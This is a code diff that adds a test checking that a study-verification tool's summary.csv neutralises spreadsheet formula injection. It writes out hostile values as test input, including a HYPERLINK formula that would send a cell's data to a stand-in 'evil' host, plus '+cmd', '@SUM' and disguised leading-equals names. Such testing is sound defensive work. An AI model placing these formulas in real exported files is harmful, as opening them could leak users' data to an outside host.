@@ -77,3 +77,39 @@ def test_verify_batch_command(tmp_path, study_engine, capsys):
     assert main(["verify-batch", str(only_good), "--dataset", str(STUDY_DATASET), "--date", EVALUATION_DATE.isoformat(), "--no-progress"]) == 0
     assert (only_good / "verification" / "summary.json").exists()
     assert main(["verify-batch", str(tmp_path / "missing")]) == 2
+
+
+def test_summary_csv_never_carries_a_formula(tmp_path, study_engine):
+    """Hostile file names and study ids (formulas, leading blanks, full-width ＝, tab/CR) reach
+    summary.csv only as text; numbers stay numbers."""
+    from footprint.exchange.safe import is_dangerous
+
+    folder = tmp_path / "hostile"
+    folder.mkdir()
+    for index, study_id in enumerate(["=HYPERLINK(\"http://evil/?\"&A1,\"x\")", " =1+1", "＝1+1", "@SUM(A1)", "+cmd", "-2+3"]):
+        data = lamp_study_data()
+        data["study_id"] = study_id
+        (folder / f"s{index}.json").write_text(build_study(study_engine, data).to_json(), encoding="utf-8")
+    for name in ("=1+1.json", " =2+2.json", "＝3+3.json", "\t=4+4.json", "\r=5+5.json", "-6.json"):
+        (folder / name).write_text("{not json", encoding="utf-8")
+    from footprint.certification.verify import VerifyOptions
+
+    result = verify_folder(folder, VerifyOptions(dataset_dir=STUDY_DATASET, verification_date=EVALUATION_DATE), progress=False)
+    csv_path, _ = write_summary(result, tmp_path / "out")
+    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert len(rows) == 13
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if is_dangerous(cell) and not _number(cell)]
+    by_file = {row[0].lstrip("'"): row for row in rows[1:]}
+    assert by_file["s0.json"][1] == "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")" and by_file["s0.json"][2] == "passed"
+    assert by_file["s2.json"][1] == "'＝1+1" and by_file["\t=4+4.json"][0] == "'\t=4+4.json"
+    assert float(by_file["s0.json"][6]) > 0  # a number, not a quoted text
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
